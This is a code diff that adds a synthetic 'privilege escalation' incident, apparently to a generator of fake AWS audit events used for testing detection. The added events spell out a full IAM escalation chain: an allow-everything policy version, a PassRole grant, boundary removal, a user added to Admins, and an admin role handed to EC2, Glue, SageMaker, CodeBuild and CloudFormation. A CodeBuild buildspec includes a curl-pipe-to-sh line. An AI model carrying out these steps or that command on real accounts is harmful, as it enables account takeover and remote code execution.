@@ -996,6 +996,70 @@ function buildHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
   ];
 }
 
+/**
+ * 23. Privilege escalation (privilege-escalation): eve's sandbox session climbs to
+ * administrator as Rhino Security Labs' methods do. It makes a new default version of its own
+ * role's managed policy granting every action, puts an inline policy allowing iam:PassRole on
+ * its own role, removes its own role's permissions boundary and adds mallory to the Admins
+ * group; then it hands the prod-admin role to compute by hand: the admin instance profile put
+ * on a running instance, a Glue dev endpoint with its SSH key, a SageMaker notebook opened, a
+ * CodeBuild build with its own buildspec and a CloudFormation stack with the role.
+ */
+function privilegeEscalation({ at, ctx, write, ec2Region }: Plant): Ev[] {
+  const step = (i: number) => ctx(at(0.83, i * 15_000), ec2Region);
+  const iam = (name: string, params: unknown, response?: unknown) =>
+    write("iam.amazonaws.com", name, params, response);
+  const admin = `arn:aws:iam::${ACCOUNT}:role/prod-admin`;
+  const everything =
+    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}';
+  const passRole =
+    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["iam:PassRole","iam:GetRole"],"Resource":"*"}]}';
+  const calls: Call[] = [
+    iam(
+      "CreatePolicyVersion",
+      {
+        policyArn: `arn:aws:iam::${ACCOUNT}:policy/dev-sandbox-access`,
+        policyDocument: everything,
+        setAsDefault: true,
+      },
+      { policyVersion: { versionId: "v4", isDefaultVersion: true } },
+    ),
+    iam("PutRolePolicy", { roleName: "dev-sandbox", policyName: "pass", policyDocument: passRole }),
+    iam("DeleteRolePermissionsBoundary", { roleName: "dev-sandbox" }),
+    iam("AddUserToGroup", { groupName: "Admins", userName: "mallory" }),
+    write("ec2.amazonaws.com", "AssociateIamInstanceProfile", {
+      AssociateIamInstanceProfileRequest: {
+        InstanceId: "i-0e5c0000c0110022a",
+        IamInstanceProfile: { Name: "prod-admin" },
+      },
+    }),
+    write("glue.amazonaws.com", "CreateDevEndpoint", {
+      endpointName: "scratch",
+      roleArn: admin,
+      publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC0110022 eve",
+    }),
+    write("sagemaker.amazonaws.com", "CreateNotebookInstance", {
+      notebookInstanceName: "scratch",
+      instanceType: "ml.t3.medium",
+      roleArn: admin,
+    }),
+    write("sagemaker.amazonaws.com", "CreatePresignedNotebookInstanceUrl", {
+      notebookInstanceName: "scratch",
+    }),
+    write("codebuild.amazonaws.com", "StartBuild", {
+      projectName: "web-app",
+      buildspecOverride:
+        "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s 203.0.113.50/x | sh",
+    }),
+    write("cloudformation.amazonaws.com", "CreateStack", {
+      stackName: "scratch",
+      templateURL: "https://s3.amazonaws.com/eve-scratch/t.yaml",
+      roleARN: admin,
+    }),
+  ];
+  return calls.map((c, i) => baseEvent(step(i), EVE, c));
+}
+
 /** In this order: each draws from the shared random stream (a new one goes last). */
 const INCIDENTS = [
   rootActivity,
@@ -1020,6 +1084,7 @@ const INCIDENTS = [
   networkPaths,
   signInPersistence,
   buildAndRegistry,
+  privilegeEscalation,
 ];
 
 /** The planted incidents, in time order, within the last 12 hours before `end`. */
